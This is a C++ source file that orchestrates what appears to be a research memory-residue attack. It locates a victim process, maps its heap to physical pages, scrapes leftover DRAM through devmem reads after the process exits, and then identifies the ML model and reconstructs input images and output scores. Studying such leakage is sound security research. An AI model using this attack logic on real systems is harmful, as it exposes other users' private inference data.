#include "attack/orchestrator.h"

#include "attack/descriptor_scan.h"
#include "attack/hexdump_analyzer.h"
#include "obs/metrics.h"
#include "obs/trace.h"
#include "util/strings.h"

namespace msa::attack {

AttackOrchestrator::AttackOrchestrator(dbg::SystemDebugger& debugger,
                                       SignatureDb signatures,
                                       ProfileDb profiles)
    : debugger_{debugger},
      signatures_{std::move(signatures)},
      profiles_{std::move(profiles)},
      poller_{debugger} {}

std::optional<PsEntry> AttackOrchestrator::find_victim(
    std::string_view cmd_substring) {
  TRACE_SPAN("trial", "find_victim");
  return poller_.find(cmd_substring);
}

ResolvedTarget AttackOrchestrator::resolve(os::Pid pid) {
  TRACE_SPAN("trial", "resolve");
  AddressResolver resolver{debugger_};
  return resolver.resolve_heap(pid);
}

bool AttackOrchestrator::victim_terminated(os::Pid pid) {
  return !poller_.is_alive(pid);
}

AttackReport AttackOrchestrator::attack_after_termination(
    const ResolvedTarget& target) {
  MemoryScraper scraper{debugger_};
  ScrapedDump dump = [&] {
    TRACE_SPAN("trial", "scrape");
    return scraper.scrape(target);
  }();
  obs::counter("trial.scraped_bytes").add(dump.bytes.size());
  AttackReport report = analyze(std::move(dump));
  report.victim_pid = target.pid;

  std::string t;
  t += "[step 2] heap " + util::hex_no_prefix(target.heap_start) + "-" +
       util::hex_no_prefix(target.heap_end) + " (" +
       std::to_string(target.page_pa.size()) + " pages, " +
       std::to_string(target.pages_resolved()) + " resolved)\n";
  t += "[step 3] scraped " + std::to_string(report.residue_bytes) +
       " bytes with " + std::to_string(report.devmem_reads) +
       " devmem reads\n";
  t += "[step 4a] identified model: " +
       (report.model_identified() ? report.identified_model : "<none>") +
       " (" + std::to_string(report.signature_hits) + " signature hits)\n";
  t += "[step 4b] image " +
       std::string{report.image_recovered() ? "reconstructed" : "not recovered"} +
       "\n";
  report.transcript = std::move(t);
  return report;
}

AttackReport AttackOrchestrator::attack_physical_scan(dram::PhysAddr base,
                                                      std::uint64_t len) {
  MemoryScraper scraper{debugger_};
  ScrapedDump scan = [&] {
    TRACE_SPAN("trial", "scrape");
    return scraper.scrape_physical_range(base, len);
  }();
  obs::counter("trial.scraped_bytes").add(scan.bytes.size());

  AttackReport report;
  report.devmem_reads = scan.devmem_reads;
  report.residue_bytes = scan.bytes.size();

  identify(report, scan.bytes);

  if (report.model_identified()) {
    if (const auto profile = profiles_.find(report.identified_model)) {
      TRACE_SPAN("trial", "reconstruct");
      report.reconstructed_image =
          ImageReconstructor::reconstruct_from_scan(scan, *profile);
    }
  }
  report.transcript = "[scan] swept " + std::to_string(len) +
                      " bytes at " + util::hex_0x(base) + "\n";
  return report;
}

AttackReport AttackOrchestrator::analyze(ScrapedDump dump) {
  AttackReport report;
  report.devmem_reads = dump.devmem_reads;
  report.residue_bytes = dump.bytes.size();
  report.pages_unmapped = dump.pages_unmapped;

  identify(report, dump.bytes);

  {
    TRACE_SPAN("trial", "reconstruct");
    if (report.model_identified()) {
      if (const auto profile = profiles_.find(report.identified_model)) {
        report.reconstructed_image =
            ImageReconstructor::reconstruct(dump, *profile);
      }
    }

    // Profile-free extension: a surviving DPU descriptor names the input
    // buffer and the output tensor outright.
    report.descriptor_image = reconstruct_via_descriptor(dump);
    report.recovered_scores = recover_output_scores(dump);
  }
  return report;
}

void AttackOrchestrator::identify(AttackReport& report,
                                  std::span<const std::uint8_t> bytes) const {
  TRACE_SPAN("trial", "identify");
  const auto matches = signatures_.scan(bytes);
  if (!matches.empty()) {
    report.identified_model = matches.front().model_name;
    report.signature_hits = matches.front().hits;
  }
  report.deep_match = SignatureDb::identify_deep(bytes);
}

}  // namespace msa::attack
